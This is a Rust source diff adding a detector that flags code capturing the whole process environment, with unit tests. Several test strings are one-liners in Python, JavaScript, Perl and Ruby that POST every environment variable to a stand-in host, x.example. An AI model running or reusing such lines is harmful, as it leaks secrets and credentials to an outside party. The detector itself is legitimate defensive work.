@@ -132,6 +132,23 @@ const READ_KEYWORDS: &[&str] = &[
 ];
 
 /// The (lowercased) code uses a network API.
+#[cfg(test)]
+mod environment_tests {
+    use super::reads_whole_environment as whole;
+
+    #[test]
+    fn whole_environment_versus_one_variable() {
+        assert!(whole("import os,requests; requests.post('https://x.example', json=dict(os.environ))"));
+        assert!(whole("fetch('https://x.example',{method:'POST',body:JSON.stringify(process.env)})"));
+        assert!(whole("print(os.environ.items())"));
+        assert!(whole("use LWP::Simple; post(join ',', %ENV)"));
+        assert!(whole("Net::HTTP.post_form(URI('https://x.example'), ENV.to_h)"));
+        assert!(!whole("requests.get(u, headers={'Authorization': os.environ['GH_TOKEN']})"));
+        assert!(!whole("fetch(process.env.API_URL)"));
+        assert!(!whole("os.environ.get('HOME')"));
+    }
+}
+
 pub(super) fn code_is_net(code_lc: &str) -> bool {
     NET_KEYWORDS.iter().any(|k| code_lc.contains(k))
 }
@@ -208,6 +225,36 @@ pub(super) fn code_hosts(code: &str) -> Vec<String> {
         }
     }
     hosts
+}
+
+/// The code takes the whole environment (`dict(os.environ)`, `JSON.stringify(process.env)`,
+/// `%ENV`, `ENV.to_h`), not one named variable: as sensitive as `printenv`.
+pub(super) fn reads_whole_environment(code: &str) -> bool {
+    let named_next = |rest: &str| {
+        rest.starts_with(['[', '.', '('])
+            && !rest.starts_with(".items")
+            && !rest.starts_with(".copy")
+            && !rest.starts_with(".to_h")
+            && !rest.starts_with(".to_a")
+    };
+    for marker in ["os.environ", "process.env", "ENV", "Deno.env.toObject", "%ENV", "$_ENV", "getenv()"] {
+        let mut from = 0;
+        while let Some(k) = code[from..].find(marker) {
+            let at = from + k;
+            from = at + marker.len();
+            let before = code[..at].chars().last();
+            if marker == "ENV"
+                && before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$' || c == '%' || c == '.')
+            {
+                continue;
+            }
+            let rest = &code[from..];
+            if marker.ends_with("toObject") || marker.starts_with('%') || marker.ends_with("()") || !named_next(rest) {
+                return true;
+            }
+        }
+    }
+    false
 }
 
 /// Files the code opens (string arguments of `open(`, `readFileSync(`, ...).
